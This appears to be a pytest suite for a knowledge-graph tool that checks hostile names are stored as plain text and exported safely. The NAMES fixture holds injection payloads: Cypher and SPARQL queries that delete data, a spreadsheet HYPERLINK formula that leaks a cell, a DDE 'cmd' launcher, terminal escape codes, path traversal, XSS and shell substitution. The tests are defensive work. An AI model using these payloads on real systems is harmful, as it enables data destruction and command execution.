"""Names that are statements, formulas, escape codes or paths: stored and found as told, shown and written as words."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest
from pyoxigraph import RdfFormat, parse

from kg import Actor, Participation
from kg.export import EXPORTERS, FOLDERS
from kg.graph import Graph, open_graph
from kg.growth import grow
from kg.harmless import is_number
from kg.intake import Batch
from tests.cli.conftest import Cli, cli
from tests.factory import article, mention, party

__all__ = ["cli"]

NAMES = {
    "Cypher": "Ann' OR 1=1 }) DETACH DELETE n //",
    "a parameter": "$name} RETURN 1",
    "SPARQL": 'Bea" . } ; DROP ALL ; INSERT DATA { <a> <b> "c',
    "Turtle": 'Cid""" .\n<http://example.org/a> <http://example.org/b> <http://example.org/c> . """\\',
    "an IRI": "Dan> <x:y> <x:z",
    "a formula": '=HYPERLINK("http://example.org/?"&A1,"Eve")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "escape codes": "Fay\x1b[2J\x1b]0;owned\x07",
    "a turned text": "Gus\u202eexe.txt",
    "a path": "../../../../tmp/Hal",
    "another path": "C:\\..\\Ida\x00.txt",
    "a page": "<script>alert('Jan')</script>&amp;",
    "a format": "%s%n{0.__class__}$(id)`id`",
}
RDF = [form for form in EXPORTERS if form not in (".jsonl", ".plover")]
DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store in which each of them met somebody, at a place and under a title that are called so, too."""
    made = tmp_path_factory.mktemp("hostile") / "kg.db"
    source = article("They met.", "2025-03-10", outlet=NAMES["a formula"], title=NAMES["escape codes"], key="a")
    told = [
        mention(_person(name), party("Spain"), source=source, when=f"2025-01-{day:02}", title=name, at=0)
        for day, name in enumerate(NAMES.values(), 1)
    ]
    with open_graph(made) as graph:
        graph.store.execute(partial(grow, batch=Batch([source], told)))
    return made


@pytest.fixture(scope="module")
def graph(folder: Path) -> Iterator[Graph]:
    with open_graph(folder) as opened:
        yield opened


def _person(name: str) -> Participation:
    return Participation(actor=Actor(name=name, kind="person", country="SWE"), role="participant")


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_such_a_name_is_stored_as_told_and_found(graph: Graph, name: str) -> None:
    (met,) = graph.who_met(name)
    assert name in {party.name for party in (*met.who, *met.whom)}


@pytest.mark.parametrize("form", ["table", "json", "jsonl", "csv"])
def test_nothing_that_a_terminal_obeys_is_printed(folder: Path, cli: Cli, form: str) -> None:
    ran = cli("events", "--store", folder, "--format", form)
    assert ran.code == 0
    assert not DANGEROUS.search(ran.out + ran.err)


def test_json_means_the_name_as_told(folder: Path, cli: Cli) -> None:
    found = json.loads(cli("met", "Spain", "--store", folder, "--format", "json").out)
    assert set(NAMES.values()) <= {name for row in found for name in _texts(row)}


def test_no_cell_of_csv_is_a_formula(folder: Path, cli: Cli) -> None:
    rows = list(csv.reader(io.StringIO(cli("met", "Spain", "--store", folder, "--format", "csv").out)))
    assert len(rows) == len(NAMES) + 1
    assert not [cell for row in rows for cell in row if re.match(r"\s*[=+\-@]", cell) and not is_number(cell)]


def test_errors_and_reasons_are_harmless_too(folder: Path, cli: Cli) -> None:
    for arguments in (("why", NAMES["escape codes"]), ("met", "Zed\x1b[2J"), ("search", "Fay"), ("show", "\x1b[2J")):
        ran = cli(*arguments, "--store", folder)
        assert not DANGEROUS.search(ran.out + ran.err)


@pytest.mark.parametrize("ending", RDF)
def test_rdf_holds_the_names_and_no_statement_of_theirs(graph: Graph, tmp_path: Path, ending: str) -> None:
    graph.export(tmp_path / f"out{ending}")
    content = (tmp_path / f"out{ending}").read_bytes()
    quads = parse(content, RdfFormat.from_extension(ending[1:]))
    triples = {(str(q.subject.value), q.predicate.value, str(getattr(q.object, "value", ""))) for q in quads}
    told = {object_ for _, _, object_ in triples}
    assert set(NAMES.values()) <= told
    assert not {term for triple in triples for term in triple[:2] if "example.org" in term or term.startswith("x:")}


def test_jsonl_brings_them_back(graph: Graph, tmp_path: Path) -> None:
    graph.export(tmp_path / "a.jsonl")
    with open_graph(":memory:") as again:
        again.load(tmp_path / "a.jsonl")
        again.export(tmp_path / "b.jsonl")
    assert (tmp_path / "a.jsonl").read_bytes() == (tmp_path / "b.jsonl").read_bytes()


@pytest.mark.parametrize("form", FOLDERS)
def test_no_name_becomes_the_name_of_a_file(graph: Graph, tmp_path: Path, form: str) -> None:
    (tmp_path / "in").mkdir()
    graph.export(tmp_path / "in" / f"out{form}")
    assert {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*")} == {"in"}
    assert all(re.fullmatch(r"[\w.-]+", path.name) for path in tmp_path.rglob("*"))


@pytest.mark.parametrize("word", ["Ann'", '"; DROP', "=HYPERLINK", "[a TO b]", "title:*", "a~ AND (", "a\\"])
def test_words_to_search_for_are_words(graph: Graph, word: str) -> None:
    graph.search(word)


def _texts(row: object) -> list[str]:
    if isinstance(row, dict):
        return [text for value in row.values() for text in _texts(value)]
    if isinstance(row, list):
        return [text for value in row for text in _texts(value)]
    return [row] if isinstance(row, str) else []
